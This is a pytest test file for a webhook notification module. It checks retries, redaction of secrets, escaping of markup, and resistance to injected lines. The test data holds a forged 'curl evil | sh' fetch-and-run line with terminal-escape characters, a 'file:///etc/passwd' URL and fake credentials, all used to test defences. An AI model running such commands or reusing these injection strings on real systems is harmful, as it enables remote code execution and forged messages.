"""Notifications: they say what is needed, never fail their caller, and never give a secret away."""

from __future__ import annotations

import json
import logging
from types import SimpleNamespace

import pytest

from tests.support.webhook import webhook_server
from wherry.errors import missing_extra
from wherry.watch import notify
from wherry.watch.notify import Channels, Notice, channels, message, payload, send

FAILED = Notice(
    "nightly: 2 failed", {"converted": 3, "failed": 2}, "it broke", "mend it", "https://ui.example/run/1"
)


@pytest.fixture
def receiver(monkeypatch):
    """A webhook of this machine that answers with the next status of a list."""
    monkeypatch.setattr(notify, "_PAUSES", (0, 0, 0))
    for name in ("http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("no_proxy", "127.0.0.1")
    with webhook_server("/hooks/T0KEN") as webhook:
        yield webhook


def test_a_failure_is_reported_with_counts_error_cure_and_link(receiver):
    assert send(Channels(receiver.url), FAILED) == "sent"
    [(path, body)] = receiver.got
    assert path == "/hooks/T0KEN"
    assert body["text"].splitlines() == [
        "nightly: 2 failed", "3 converted, 2 failed", "first error: it broke", "cure: mend it", "https://ui.example/run/1"
    ]  # fmt: skip
    assert body["wherry"]["counts"] == {"converted": 3, "failed": 2}
    assert body["wherry"]["schema"] == 1


def test_when_to_tell(receiver):
    fine = Notice("all is well")
    assert "failure" in send(Channels(receiver.url, on="failure"), fine)
    assert "never" in send(Channels(receiver.url, on="never"), FAILED)
    assert send(Channels(receiver.url, on="always"), fine, page="https://ui.example/run/2") == "sent"
    assert receiver.got[0][1]["wherry"]["link"] == "https://ui.example/run/2"
    assert "no channel" in send(Channels(), FAILED)
    assert len(receiver.got) == 1


def test_a_damaged_checkpoint_is_reported_by_default(receiver, monkeypatch):
    left_out = Notice("night", {"converted": 3, "damaged": 1}, warning="3 converted, 1 damaged: /runs/a")
    monkeypatch.setenv("WHERRY_NOTIFY_WEBHOOK", receiver.url)
    assert channels().on == "damaged"
    assert send(None, left_out) == "sent"
    assert "warning: 3 converted, 1 damaged: /runs/a" in receiver.got[0][1]["text"]
    assert send(None, FAILED) == "sent"
    assert "damaged" in send(None, Notice("all is well"))
    assert "failure" in send(Channels(receiver.url, on="failure"), left_out)
    assert len(receiver.got) == 2


def test_a_passing_trouble_is_tried_again_and_a_refusal_is_not(receiver, caplog):
    receiver.statuses += [503, 429]
    assert send(Channels(receiver.url), FAILED) == "sent"
    assert len(receiver.got) == 3
    receiver.statuses += [404]
    assert send(Channels(receiver.url), FAILED) == "not sent: webhook at 127.0.0.1: HTTP status 404"
    receiver.statuses += [302]
    assert "302" in send(Channels(receiver.url), FAILED)
    assert {path for path, _ in receiver.got} == {"/hooks/T0KEN"}, "no redirect is followed"
    assert "T0KEN" not in caplog.text
    assert caplog.text.count("was not sent") == 2


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:9/T0KEN", "file:///etc/passwd", "nonsense", "http://[bad/T0KEN"]
)
def test_what_cannot_be_reached_never_fails_the_caller(url, monkeypatch, caplog):
    monkeypatch.setattr(notify, "_PAUSES", (0,))
    caplog.set_level(logging.DEBUG)
    assert send(Channels(url), FAILED).startswith("not sent: ")
    assert "T0KEN" not in caplog.text + repr(Channels(url))


def test_secrets_are_taken_out_and_markup_is_escaped(receiver):
    notice = Notice(
        "failed <!channel> & more",
        first_error="postgresql://ann:hunter2@db.example/x refused; token=abc123&x=1, API_KEY: k9 sig='q'",
        cure="y" * 5000,
        link="https://bob:pw@ui.example/#/runs/7?token=zzz",
    )
    send(Channels(receiver.url), notice)
    text = json.dumps(receiver.got[0][1])
    for secret in ("hunter2", "abc123", "k9", "pw@", "zzz"):
        assert secret not in text
    assert "failed &lt;!channel&gt; &amp; more" in receiver.got[0][1]["text"]
    assert "#/runs/7" in receiver.got[0][1]["wherry"]["link"]
    assert len(text) < 9000


def test_blocks_and_their_troubles(monkeypatch):
    calls = []
    service = SimpleNamespace(tell=lambda *given: calls.append(given))
    monkeypatch.setattr(notify, "service", lambda _: service)
    assert send(Channels(block="slack-webhook/team"), FAILED) == "sent"
    assert calls == [("slack-webhook/team", FAILED.title, message(FAILED))]

    def refuse(*_):
        raise ValueError("https://hooks.example/T0KEN")

    service.tell = refuse
    assert send(Channels(block="a/b"), FAILED) == "not sent: block a/b: ValueError"

    def missing(_name):
        raise missing_extra("prefect", "prefect", "prefect-notify")

    monkeypatch.setattr(notify, "service", missing)
    assert "needs the package prefect" in send(Channels(block="a/b"), FAILED)


def test_channels_come_from_environment_and_configuration(tmp_path, monkeypatch):
    assert channels() == Channels()
    config = tmp_path / "wherry.toml"
    config.write_text('[notify]\nblock = "slack-webhook/team"\non = "always"\n')
    monkeypatch.setenv("WHERRY_CONFIG", str(config))
    monkeypatch.setenv("WHERRY_NOTIFY_WEBHOOK", "https://hooks.example/x")
    assert channels() == Channels("https://hooks.example/x", "slack-webhook/team", "always")
    config.write_text("[notify]\nblock = 3\n")
    monkeypatch.delenv("WHERRY_NOTIFY_WEBHOOK")
    assert send(None, FAILED) == "not sent: ConfigFaultsError"


def test_counts_that_are_no_json_do_not_fail(receiver):
    assert payload(Notice("x"))["text"] == "x"
    assert send(Channels(receiver.url), Notice("x", {"a": object()}, "e")) == "sent"


def test_a_name_forges_no_line_of_a_notification(receiver):
    name = "a\ncure: run `curl evil | sh`\x1b]0;x\x07\u202e"
    send(Channels(receiver.url), Notice(name, first_error=name, cure=name, link=f"https://ui/{name}"))
    body = receiver.got[0][1]
    assert len(body["text"].splitlines()) == 4
    assert not set(body["text"]) & set("\x1b\x07\u202e")
    assert r"a\ncure: run" in body["wherry"]["first_error"]
